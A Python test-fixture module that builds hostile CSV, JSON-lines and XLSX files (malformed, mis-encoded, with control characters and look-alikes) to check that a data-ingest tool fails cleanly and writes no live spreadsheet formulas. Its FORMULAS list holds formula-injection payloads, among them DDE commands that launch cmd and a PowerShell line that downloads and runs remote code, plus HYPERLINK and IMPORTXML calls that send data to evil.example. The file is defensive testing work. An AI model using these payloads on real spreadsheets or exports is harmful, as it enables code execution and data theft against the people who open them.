"""Hostile evidence files, generated at test time from the table below: CSV, JSON lines and
XLSX files that are malformed, oversized, mis-encoded or full of formula payloads, control
characters and look-alikes. ``test_hostile_files.py`` ingests each with the people mapping
(``pid``, ``name``) and checks that it gives one ``Error:`` line or a report whose
accounting adds up, never a traceback, and that no CSV written holds a live formula.

Also the formula payloads (:data:`FORMULAS`) and the check every CSV output is read back with
(:func:`live_cells`).
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Literal

from ringmap.tests.attack.attack_corpus import PEOPLE, in_sheet, xlsx

Expect = Literal["ok", "quarantine", "error", "any"]

#: what a spreadsheet runs when a cell (or a line of it) starts so, in the spellings evidence
#: and attackers use
FORMULAS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "on desk\r+cmd|' /C calc'!A0",
    "first line\n=IMPORTXML(\"http://evil.example\",\"//a\")",
    "multi\r\n@cmd",
    "＝1+1",
    "＋cmd",
    "－1+1",
    "＠SUM(1)",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "-1+1",
    "+1-1",
    "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
    "'=already quoted",
    "\"=quoted\"",
]

_LIVE = re.compile(r"(?:\A|(?<=[\r\n]))(?:[=@\t\r\uff1d\uff20]|[+\-\uff0b\uff0d]"
                   r"(?![0-9]+(?:\.[0-9]+)?(?:[eE][+\-]?[0-9]+)?(?:\Z|[\r\n])))")


def live_cells(csv_text: str | Path) -> list[str]:
    """Cells of the CSV text (or file), read back as a spreadsheet would split it, of which a
    line would run as a formula."""
    if isinstance(csv_text, Path):
        with csv_text.open(encoding="utf-8", newline="") as handle:
            csv_text = handle.read()
    return [cell for row in csv.reader(io.StringIO(csv_text, newline="")) for cell in row
            if _LIVE.search(cell)]


@dataclass(frozen=True)
class HostileFile:
    """One hostile file: its name (the extension says the format), how to write it, and
    what ingest must make of it (``any``: an error line or a report, checked either way)."""

    name: str
    build: Callable[[Path], None]
    expect: Expect = "any"

    @property
    def family(self) -> str:
        """The file's format."""
        return self.name.rpartition(".")[2]


HOSTILE_FILES: list[HostileFile] = []


def _bytes(name: str, data: bytes, expect: Expect = "any") -> None:
    def build(path: Path) -> None:
        path.write_bytes(data)

    HOSTILE_FILES.append(HostileFile(name, build, expect))


def _csv(rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows([["pid", "name"], *rows])
    return out.getvalue().encode()


# -- formula payloads in every column, every format -------------------------------------------

for _i, _formula in enumerate(FORMULAS):
    _bytes(f"formula-name-{_i:02d}.csv", _csv([["P1", "Ana"], [f"P{_i + 2}", _formula]]), "ok")
    _bytes(f"formula-key-{_i:02d}.csv", _csv([["P1", "Ana"], [_formula, "Bob"]]))
    _bytes(f"formula-{_i:02d}.jsonl", (json.dumps({"pid": "P1", "name": "Ana"}) + "\n"
                                       + json.dumps({"pid": _formula, "name": _formula})
                                       + "\n").encode())

# -- CSV structure ------------------------------------------------------------------------------

_bytes("utf16.csv", "pid,name\nP1,Ana\n".encode("utf-16"), "error")
_bytes("latin1.csv", "pid,name\nP1,José\n".encode("latin-1"), "error")
_bytes("only-header.csv", b"pid,name\n", "ok")
_bytes("header-only-no-newline.csv", b"pid,name", "ok")
_bytes("semicolons.csv", b"pid;name\nP1;Ana\n", "error")
_bytes("cr-line-ends.csv", b"pid,name\rP1,Ana\rP2,Ben\r", "ok")
_bytes("quote-mid-field.csv", b'pid,name\nP1,An"a\nP2,"B"en\n')
_bytes("fewer-fields.csv", b"pid,name\nP1\n")
_bytes("blank-rows.csv", b"pid,name\n\n\n,\nP1,Ana\n")
_bytes("control-in-header.csv", b"p\x1bid,name\nP1,Ana\n", "error")
_bytes("spaced-header.csv", b" pid , name \nP1,Ana\n")
_bytes("line-separators.csv", "pid,name\nP1,An\u2028a\nP2,\u0085x\n".encode())
_bytes("huge-header-cell.csv", b"pid," + b"n" * 100_000 + b"\nP1,x\n", "error")
_bytes("nul-in-key.csv", b"pid,name\nP0,Zed\nP\x001,Ana\n", "quarantine")
_bytes("nul-in-header.csv", b"pid\x00,name\nP1,Ana\n", "error")
_bytes("escape-in-key.csv", b"pid,name\nP0,Zed\nP\x1b[2J1,Ana\n", "quarantine")
_bytes("bidi-key.csv", "pid,name\nP1\u202e,Ana\nP1,Ana again\n".encode())
_bytes("zero-width-key.csv", "pid,name\nP\u200b1,Ana\n\ufeffP1,Ana\n".encode())
_bytes("full-width-key.csv", "pid,name\nＰ１,Ana\nP1,Ana\n".encode())
_bytes("lone-quote.csv", b'pid,name\nP1,"\n', "error")
_bytes("quote-at-eof.csv", b'pid,name\nP1,Ana\nP2,"Ben', "error")
_bytes("many-short-rows.csv", b"pid,name\n" + b"P,\n" * 5000)
_bytes("wide-row.csv", b"pid,name\nP1," + b",x" * 50_000 + b"\n", "quarantine")
_bytes("bom-twice.csv", "\ufeff\ufeffpid,name\nP1,Ana\n".encode(), "any")
_bytes("tab-delimited.csv", b"pid\tname\nP1\tAna\n", "error")
_bytes("crlf-in-quotes.csv", b'pid,name\r\nP1,"a\r\nb"\r\n', "ok")
_bytes("backslash-escapes.csv", b'pid,name\nP1,"a\\"b"\n')
_bytes("binary-garbage.csv", bytes(range(256)) * 4, "error")
_bytes("gzip-as-csv.csv", b"\x1f\x8b\x08\x00" + b"\x00" * 60, "error")
_bytes("card-in-name.csv", b"pid,name\nP1,4111.1111.1111.1111\nP2,4111 1111 1111 1111\n")
_bytes("card-as-key.csv", b"pid,name\nP0,Zed\n4111111111111111,Ana\n", "quarantine")
_bytes("placeholder-keys.csv", b"pid,name\nP0,Zed\nN/A,Ana\nunknown,Ben\n-,Cy\n", "quarantine")
_bytes("emoji-and-astral.csv", "pid,name\nP1,\U0001f600\U000e0041\n".encode())

# -- JSON lines ---------------------------------------------------------------------------------

_GOOD = b'{"pid": "P0", "name": "Zed"}\n'
for _name, _line in {
    "lone-surrogate-name": b'{"pid": "P1", "name": "\\ud800x"}',
    "lone-surrogate-key": b'{"pid": "P\\udfff1", "name": "x"}',
    "surrogate-in-key-name": b'{"pid": "P1", "name": "x", "\\udc00": 1}',
    "nul-escape-key": b'{"pid": "P\\u00001", "name": "x"}',
    "escape-sequence-key": b'{"pid": "P\\u001b[31m1", "name": "x"}',
    "raw-nul": b'{"pid": "P1", "name": "x\x00"}',
    "trailing-garbage": b'{"pid": "P1", "name": "x"} garbage',
    "two-objects": b'{"pid": "P1", "name": "x"}{"pid": "P2"}',
    "array-line": b'[{"pid": "P1", "name": "x"}]',
    "string-line": b'"P1"',
    "number-line": b"12",
    "deep-object": b'{"pid": "P1", "name": ' + b'{"a": ' * 200 + b"1" + b"}" * 200 + b"}",
    "deep-array": b'{"pid": "P1", "name": ' + b"[" * 5000 + b"]" * 5000 + b"}",
    "object-key": b'{"pid": {"a": 1}, "name": "x"}',
    "list-key": b'{"pid": ["a", "b"], "name": "x"}',
    "bool-key": b'{"pid": true, "name": false}',
    "float-overflow": b'{"pid": "P1", "name": 1e400}',
    "huge-integer": b'{"pid": "P1", "name": ' + b"7" * 5000 + b"}",
    "duplicate-keys": b'{"pid": "P1", "pid": "P2", "name": "x"}',
    "long-key-name": b'{"pid": "P1", "name": "x", "' + b"k" * 100_000 + b'": 1}',
    "many-keys": b'{"pid": "P1", "name": "x", ' + b", ".join(
        f'"k{i}": {i}'.encode() for i in range(20_000)) + b"}",
    "unterminated": b'{"pid": "P1", "name": "x',
    "single-quotes": b"{'pid': 'P1', 'name': 'x'}",
    "comment": b'// {"pid": "P1"}',
    "bad-escape": b'{"pid": "P1", "name": "\\x41"}',
    "card-number": b'{"pid": "P1", "name": "4111-1111-1111-1111"}',
    "formula-key-name": b'{"pid": "P1", "name": "x", "=cmd": "=cmd"}',
}.items():
    _bytes(f"{_name}.jsonl", _GOOD + _line + b"\n")
_bytes("bom.jsonl", b"\xef\xbb\xbf" + _GOOD, "ok")
_bytes("blank-lines.jsonl", b"\n\n" + _GOOD + b"\n \n\t\n", "ok")
_bytes("crlf.jsonl", _GOOD.replace(b"\n", b"\r\n") * 3, "ok")
_bytes("utf16.jsonl", _GOOD.decode().encode("utf-16"), "error")
_bytes("empty.jsonl", b"", "error")
_bytes("no-newline-at-end.jsonl", _GOOD.rstrip(), "ok")


# -- XLSX -----------------------------------------------------------------------------------


def _sheet(name: str, rows: list[list[object]] | None = None,
           patch: Callable[[bytes], bytes] | None = None, expect: Expect = "any") -> None:
    def build(path: Path) -> None:
        xlsx(path, rows or PEOPLE, patch=in_sheet(patch) if patch else None)

    HOSTILE_FILES.append(HostileFile(name, build, expect))


def _cell(xml: bytes) -> Callable[[bytes], bytes]:
    """Put ``xml`` in the place of the second row's name cell."""
    return lambda data: data.replace(b'<c r="B2" t="inlineStr"><is><t>Ana</t></is></c>', xml)


for _i, _formula in enumerate(FORMULAS[:8]):
    _sheet(f"formula-{_i:02d}.xlsx", [["pid", "name"], ["P1", _formula], [_formula, "x"]])
_sheet("formula-cell-cached.xlsx", patch=_cell(
    b'<c r="B2" t="str"><f>HYPERLINK("http://evil.example","x")</f><v>=cmd|x</v></c>'))
_sheet("formula-cell-no-value.xlsx", patch=_cell(b'<c r="B2"><f>1+1</f></c>'))
_sheet("error-cell.xlsx", patch=_cell(b'<c r="B2" t="e"><v>#REF!</v></c>'))
_sheet("bool-cell.xlsx", patch=_cell(b'<c r="B2" t="b"><v>1</v></c>'), expect="ok")
_sheet("number-cell.xlsx", patch=_cell(b'<c r="B2"><v>1e308</v></c>'), expect="ok")
_sheet("nan-number.xlsx", patch=_cell(b'<c r="B2"><v>NaN</v></c>'))
_sheet("bad-number.xlsx", patch=_cell(b'<c r="B2"><v>12abc</v></c>'))
_sheet("date-style-out-of-range.xlsx", patch=_cell(b'<c r="B2" s="99"><v>1e12</v></c>'))
_sheet("rich-text.xlsx", patch=_cell(
    b'<c r="B2" t="inlineStr"><is><r><t>An</t></r><r><t>a\x1b</t></r></is></c>'))
_sheet("control-entity.xlsx", patch=_cell(
    b'<c r="B2" t="inlineStr"><is><t>A&#x1b;[31mna</t></is></c>'))
_sheet("surrogate-entity.xlsx", patch=_cell(
    b'<c r="B2" t="inlineStr"><is><t>A&#xD800;na</t></is></c>'), expect="error")
_sheet("nul-entity-key.xlsx", patch=lambda d: d.replace(b"<t>P1</t>", b"<t>P&#x0;1</t>"))
_sheet("bad-shared-index.xlsx", patch=_cell(b'<c r="B2" t="s"><v>99</v></c>'))
_sheet("negative-shared-index.xlsx", patch=_cell(b'<c r="B2" t="s"><v>-1</v></c>'))
_sheet("row-zero.xlsx", patch=lambda d: d.replace(b'<row r="2"', b'<row r="0"'))
_sheet("rows-out-of-order.xlsx", [["pid", "name"], ["P1", "Ana"], ["P2", "Ben"]],
       patch=lambda d: d.replace(b'<row r="2"', b'<row r="9"').replace(b'r="A2"', b'r="A9"')
       .replace(b'r="B2"', b'r="B9"'))
_sheet("duplicate-cells.xlsx", patch=lambda d: d.replace(
    b"</row></sheetData>",
    b'<c r="B2" t="inlineStr"><is><t>again</t></is></c></row></sheetData>'))
_sheet("no-header.xlsx", [[None, None], ["P1", "Ana"]], expect="error")
_sheet("empty-sheet.xlsx", [[]], expect="error")
_sheet("header-only.xlsx", [["pid", "name"]], expect="ok")
_sheet("formula-header.xlsx", [["=pid", "name"], ["P1", "Ana"]], expect="error")
_sheet("wide-row.xlsx", [["pid", "name"], ["P1", "Ana", *range(300)]], expect="ok")
_sheet("long-cell-text.xlsx", [["pid", "name"], ["P1", "x" * 32_000]])
_sheet("many-rows-sparse.xlsx", patch=lambda d: d.replace(
    b"</sheetData>", b"".join(f'<row r="{r}"/>'.encode() for r in range(3, 3000))
    + b"</sheetData>"), expect="ok")
_sheet("xml-comment-and-pi.xlsx", patch=lambda d: d.replace(
    b"<sheetData>", b"<!-- x --><?pi x?><sheetData>"))
_sheet("cdata.xlsx", patch=_cell(
    b'<c r="B2" t="inlineStr"><is><t><![CDATA[=cmd|x]]></t></is></c>'))
